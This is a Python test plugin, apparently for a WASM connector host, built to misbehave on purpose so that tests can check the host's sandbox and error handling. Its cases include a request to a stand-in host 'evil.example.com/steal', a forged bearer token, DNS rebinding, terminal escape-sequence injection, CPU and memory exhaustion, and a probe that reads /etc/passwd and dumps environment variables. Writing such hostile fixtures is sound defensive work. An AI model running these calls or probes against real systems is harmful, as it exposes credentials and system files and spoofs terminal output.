"""A hostile test connector in Python, the twin of tests/plugins/hostile.
It implements the raw generated interface (not the SDK's `Connector`) so it
can break the contract too. `list(module)` misbehaves in the way the module
names; `list("ok")` behaves, so tests can check the host still serves
after each failure. `list("sandbox")` reports what the WASI imports that
componentize-py links gave it: files, environment, clocks, sockets.

The `target` setting names a URL the network cases aim at.
"""

import json
import os
import socket
import time

from componentize_py_types import Err, Ok
from wit_world import exports
from wit_world.imports import http, log, types

#: Clear the screen, set the window title, a colour, and a forged line.
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\rFORGED"

CASES = [
    "ok",
    "loop",
    "memory",
    "endless",
    "escapes",
    "escapes-error",
    "reach",
    "reach-post",
    "own-auth",
    "malformed",
]

SETTINGS = {}


def no():
    raise Err(types.ConnectorError_Unsupported("hostile plugin"))


def page(records, cursor=None):
    return types.Page([json.dumps(r) for r in records], cursor)


def send(method, url, headers=(), body=None):
    request = http.Request(method, url, list(headers), body, method == http.Method.GET)
    try:
        return http.send(request)
    except Err as e:
        # The host's refusal, as the Rust SDK reports it.
        raise Err(
            types.ConnectorError_Vendor(
                types.VendorError("denied", f"request denied by the host: {e.value.value}", 0)
            )
        )


def reach(method):
    target = SETTINGS.get("target", "/")
    body = None if method == http.Method.GET else b'{"name":"plugin","role":"admin"}'
    resp = send(method, target, [("Content-Type", "application/json")], body)
    text = bytes(resp.body).decode("utf-8", "replace")
    return page([{"id": "reached", "name": "reached", "status": resp.status, "body": text}])


def sandbox():
    seen = {}
    try:
        with open("/etc/passwd") as f:
            seen["file"] = f.read()
    except OSError as e:
        seen["file"] = type(e).__name__
    try:
        seen["dir"] = os.listdir("/")
    except OSError as e:
        seen["dir"] = type(e).__name__
    seen["env"] = dict(os.environ)
    seen["time"] = time.time()
    seen["monotonic"] = time.monotonic()
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("127.0.0.1", int(SETTINGS.get("port", "9"))))
        seen["socket"] = "connected"
    except OSError as e:
        seen["socket"] = type(e).__name__
    seen["random"] = os.urandom(8).hex()
    return page([{"id": "sandbox", "name": "sandbox", "body": json.dumps(seen)}])


class Connector(exports.Connector):
    def describe(self, settings):
        log.write(log.Level.INFO, f"describing {ESCAPES}")
        modules = [
            types.ModuleInfo(
                case,
                case,
                "id",
                None,
                [
                    types.FieldInfo(name, name, types.FieldKind.TEXT, False, False, False, [], None)
                    for name in ("id", "name", "body")
                ],
                [types.Operation.READ],
                [],
                1,
            )
            for case in CASES
        ]
        return types.ConnectorInfo("hostile", "0.0.0", f"Misbehaves on purpose {ESCAPES}", modules)

    def configure(self, settings):
        try:
            SETTINGS.update(json.loads(settings))
        except ValueError as e:
            raise Err(types.ConnectorError_Invalid(types.InvalidField("settings", str(e))))

    def check(self):
        pass

    def list(self, module, since, cursor):
        if module == "ok":
            return page([{"id": "1", "name": "one"}])
        if module == "endless":
            # The same record and next cursor on every page, or a new
            # cursor each time (`fresh`).
            n = int(cursor or "0")
            nxt = n + 1 if SETTINGS.get("cursor") == "fresh" else 1
            return page([{"id": f"e{n % 3}", "name": "again"}], str(nxt))
        if module == "escapes":
            log.write(log.Level.WARN, f"log line {ESCAPES}")
            return page([{"id": f"r1{ESCAPES}", "name": f"name {ESCAPES}"}])
        if module == "escapes-error":
            raise Err(types.ConnectorError_Invalid(types.InvalidField("name", f"bad {ESCAPES}\nsecond line")))
        if module == "reach":
            return reach(http.Method.GET)
        if module == "reach-post":
            return reach(http.Method.POST)
        if module == "loop":
            i = 0
            while True:
                i += 1
        if module == "memory":
            hoard = []
            while True:
                hoard.append(bytearray(1 << 20))
        if module == "huge-hostcall":
            log.write(log.Level.INFO, "x" * (8 << 20))
            return page([])
        if module == "forbidden-host":
            send(http.Method.GET, "https://evil.example.com/steal")
            return page([])
        if module == "rebinding":
            send(http.Method.GET, "https://rebind.allowed.test/")
            return page([])
        if module == "own-auth":
            send(http.Method.GET, "/items", [("Authorization", "Bearer stolen")])
            return page([])
        if module == "cookie":
            send(http.Method.GET, "/items", [("Cookie", "session=1")])
            return page([])
        if module == "malformed":
            return types.Page(['{"id": 1,'], None)
        if module == "not-object":
            return types.Page(["[1,2,3]"], None)
        if module == "panic":
            raise RuntimeError("the plugin gave up")
        if module == "sandbox":
            return sandbox()
        raise Err(types.ConnectorError_NotFound(module))

    def get(self, module, id):
        no()

    def find(self, module, criteria):
        no()

    def deleted(self, module, since, cursor):
        no()

    def create(self, module, records):
        # Breaks "one result per input": always one result too few.
        return [Ok(r) for r in records[1:]]

    def update(self, module, records):
        no()

    def delete(self, module, ids):
        no()

    def act(self, module, id, action, args):
        no()
